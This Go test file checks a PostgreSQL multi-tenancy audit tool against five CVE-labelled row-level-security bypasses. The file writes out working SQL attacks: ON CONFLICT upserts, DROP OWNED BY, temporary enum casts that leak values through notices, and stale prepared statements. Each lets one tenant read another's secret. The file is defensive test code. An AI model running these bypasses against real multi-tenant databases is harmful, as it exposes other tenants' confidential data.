package audit_test

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgconn"

	"github.com/moat-db/moat/audit"
	"github.com/moat-db/moat/internal/postgres/pgtest"
	"github.com/moat-db/moat/tenancy"
)

// upsertFlaw is the one that makes shared unique keys critical.
const upsertFlaw = "CVE-2026-120154"

// exploit is a database that is open to one flaw, and what APP does there as tenant 1 to
// see the "s3cret" of tenant 2.
type exploit struct {
	schema string
	// before runs as APP, between as the superuser; only what attack shows counts.
	before, between, attack string
	mended                  string // closes it on every release
}

const (
	exploitBase = `CREATE TABLE t (id int PRIMARY KEY, tenant_id int NOT NULL, email text, tags text[], secret text);
		INSERT INTO t VALUES (1, 2, 'b@b.example', '{s3cret}', 's3cret');
		ALTER TABLE t DROP CONSTRAINT t_pkey, ADD PRIMARY KEY (tenant_id, id);`
	exploitWall = `ALTER TABLE t ENABLE ROW LEVEL SECURITY; ALTER TABLE t FORCE ROW LEVEL SECURITY;
		CREATE POLICY wall ON t AS RESTRICTIVE
			USING (tenant_id = (SELECT nullif(current_setting('app.current_tenant', true), '')::int));
		CREATE POLICY inside ON t USING (true); GRANT SELECT, INSERT, UPDATE ON t TO APP;
		REVOKE TEMPORARY ON DATABASE DB FROM PUBLIC; REVOKE CREATE ON SCHEMA public FROM PUBLIC;`
)

func exploits() map[string]exploit {
	return map[string]exploit{
		upsertFlaw: {
			schema: exploitBase + exploitWall + "CREATE UNIQUE INDEX key ON t (email)",
			attack: `INSERT INTO t VALUES (7, 1, 'b@b.example') ON CONFLICT (email) DO UPDATE SET email = 'x'
				WHERE t.secret::int = 1`,
			mended: "DROP INDEX key",
		},
		"CVE-2026-116311": {
			schema: exploitBase + exploitWall + "ALTER POLICY wall ON t TO APP",
			attack: "DROP OWNED BY CURRENT_USER; SELECT secret FROM t",
			mended: "ALTER POLICY wall ON t TO PUBLIC",
		},
		"CVE-2026-116327": {
			schema: exploitBase + exploitWall + "GRANT TEMPORARY ON DATABASE DB TO APP",
			attack: `CREATE TYPE pg_temp.mine AS ENUM ('a');
				CREATE FUNCTION pg_temp.peek(text) RETURNS pg_temp.mine LANGUAGE plpgsql COST 0.000001
					AS $$ BEGIN RAISE NOTICE '%', $1; RETURN 'a'; END $$;
				CREATE CAST (text AS pg_temp.mine) WITH FUNCTION pg_temp.peek(text);
				SET LOCAL enable_indexscan = off; SET LOCAL enable_bitmapscan = off;
				SELECT count(*) FROM t WHERE tags::pg_temp.mine[] IS NOT NULL`,
			mended: "REVOKE TEMPORARY ON DATABASE DB FROM APP",
		},
		"CVE-2026-16237": {
			schema: exploitBase + `CREATE UNIQUE INDEX key ON t (email);
				CREATE VIEW own WITH (security_barrier, check_option = cascaded) AS SELECT * FROM t
					WHERE tenant_id = nullif(current_setting('app.current_tenant', true), '')::int;
				GRANT SELECT, INSERT, UPDATE ON own TO APP; REVOKE TEMPORARY ON DATABASE DB FROM PUBLIC`,
			attack: `INSERT INTO own VALUES (7, 1, 'b@b.example') ON CONFLICT (email)
				DO UPDATE SET tenant_id = 1 RETURNING secret`,
			mended: "REVOKE INSERT ON own FROM APP",
		},
		"CVE-2026-14666": {
			schema: exploitBase + exploitWall + `DROP POLICY wall ON t; DROP POLICY inside ON t;
				CREATE POLICY wall ON t USING (tenant_id = nullif(current_setting('app.current_tenant', true), '')::int);
				CREATE POLICY staff ON t TO STAFF USING (true); GRANT STAFF TO APP`,
			before: "PREPARE all_rows AS SELECT secret FROM t; EXECUTE all_rows", between: "REVOKE STAFF FROM APP",
			attack: "EXECUTE all_rows",
			mended: "DROP POLICY staff ON t",
		},
	}
}

// The flaws of the table are in this server where the table says so, and nowhere else;
// audit reports the database that is open to one, and not when it is mended.
func TestFlawsAreReal(t *testing.T) {
	t.Parallel()
	pgtest.EachMajor(t, func(t *testing.T, c *pgtest.Cluster) {
		for cve, x := range exploits() {
			t.Run(cve, func(t *testing.T) {
				t.Parallel()
				open := slices.Contains(audit.Flaws(c.Version), cve)
				db := c.New(t)
				app := db.AppRole(t)
				names := strings.NewReplacer("APP", app, "STAFF", db.Role(t, "staff", "NOLOGIN"), "DB", db.Name)
				db.Exec(t, names.Replace(x.schema))
				if got := reportsFlaw(t, db, app, cve); got != open {
					t.Errorf("audit reports it: %v, and %d has it by the table: %v", got, c.Version, open)
				}
				if shown := x.run(t, db, app, names); strings.Contains(shown, "s3cret") != open {
					t.Errorf("%d has it by the table: %v; the attack shows %q", c.Version, open, shown)
				}
				db.Exec(t, names.Replace(x.mended))
				if reportsFlaw(t, db, app, cve) {
					t.Error("mended, and still reported")
				}
			})
		}
	})
}

// reportsFlaw says whether audit reports a flaw of the server.
func reportsFlaw(t *testing.T, db *pgtest.Database, app, cve string) bool {
	t.Helper()
	o := tenancy.Options{Column: "tenant_id", Setting: "app.current_tenant", Roles: []string{app}}
	return slices.ContainsFunc(runAs(t, db.Conn(t, db.URL), o, "").Findings, func(f audit.Finding) bool {
		return f.Rule == strings.ToLower(cve) && f.Object == "server"
	})
}

// run attacks as the application role in a transaction that is rolled back, and returns
// all that it was shown: rows, notices and the error.
func (x exploit) run(t *testing.T, db *pgtest.Database, app string, names *strings.Replacer) string {
	t.Helper()
	config, err := pgx.ParseConfig(db.As(t, app))
	if err != nil {
		t.Fatal(err)
	}
	var shown strings.Builder
	config.OnNotice = func(_ *pgconn.PgConn, n *pgconn.Notice) { fmt.Fprintln(&shown, n.Message) }
	conn, err := pgx.ConnectConfig(t.Context(), config)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close(context.Background())
	exec := func(sql string) error {
		results, err := conn.PgConn().Exec(t.Context(), names.Replace(sql)).ReadAll()
		for _, r := range results {
			fmt.Fprintf(&shown, "%s\n", r.Rows)
		}
		return err
	}
	if err := exec("SET app.current_tenant = '1'; " + x.before); err != nil {
		t.Fatal(err)
	}
	db.Exec(t, names.Replace(x.between))
	shown.Reset()
	if err := exec("BEGIN; " + x.attack); err != nil {
		fmt.Fprintln(&shown, err)
	}
	return shown.String()
}
